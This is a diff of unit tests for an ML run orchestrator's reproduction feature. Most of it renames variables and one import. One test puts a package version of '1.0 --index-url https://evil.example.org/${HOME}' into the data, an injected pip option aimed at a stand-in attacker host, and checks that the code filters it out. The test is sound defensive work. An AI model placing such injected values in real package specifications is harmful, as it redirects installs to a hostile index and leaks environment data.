@@ -6,7 +6,7 @@ from typing import Any
 import pytest
 
 from orchestrator.errors import ConfigError
-from orchestrator.reproduction import archive, exported, rerun
+from orchestrator.reproduction import archive, load, rerun
 from orchestrator.schema.packages import Installed
 from tests import builders
 from tests.unit.conftest import Cli
@@ -16,8 +16,8 @@ from tests.unit.reproduction import cases
 def test_a_run_is_repeated_with_its_resolved_settings_from_the_beginning() -> None:
     config = cases.TRAINED.config.model_copy(update={"precision": "bfloat16", "resume": "/shared/x", "restarts": 2})
     old = cases.loaded(results=cases.TRAINED.model_copy(update={"config": config}))
-    found = rerun.settings(old)
-    assert (found.precision, found.resume, found.restarts, found.steps) == ("bfloat16", None, 0, None)
+    settings = rerun.settings(old)
+    assert (settings.precision, settings.resume, settings.restarts, settings.steps) == ("bfloat16", None, 0, None)
 
 
 @pytest.mark.parametrize("ended", ["max-time", "terminated"])
@@ -42,16 +42,16 @@ def test_it_is_launched_as_it_was() -> None:
 
 def test_packages_are_those_versions_and_no_words_for_pip() -> None:
     overlay = {"einops": "0.8.0", "odd": "1.0 --index-url https://evil.example.org/${HOME}"}
-    found = rerun.versions(cases.loaded(packages=Installed(image={}, overlay=overlay)))
-    assert found is not None
-    assert found.lines == ["einops==0.8.0"]
+    versions = rerun.versions(cases.loaded(packages=Installed(image={}, overlay=overlay)))
+    assert versions is not None
+    assert versions.lines == ["einops==0.8.0"]
     assert rerun.versions(cases.loaded(packages=Installed(image={}))) is None
 
 
 def test_variables_must_be_given_again(tmp_path: Path) -> None:
     (tmp_path / "train.py").write_text("print()")
     state_dir, run = cases.scripted(tmp_path, "python", str(tmp_path / "train.py"), variables=["TOKEN"])
-    old = exported.load(state_dir.runs / run.id)
+    old = load.load(state_dir.runs / run.id)
     with pytest.raises(ConfigError, match=r"values are not in the archive: \['TOKEN'\]") as caught:
         rerun.require_variables(old, {})
     assert "--env NAME" in caught.value.hint
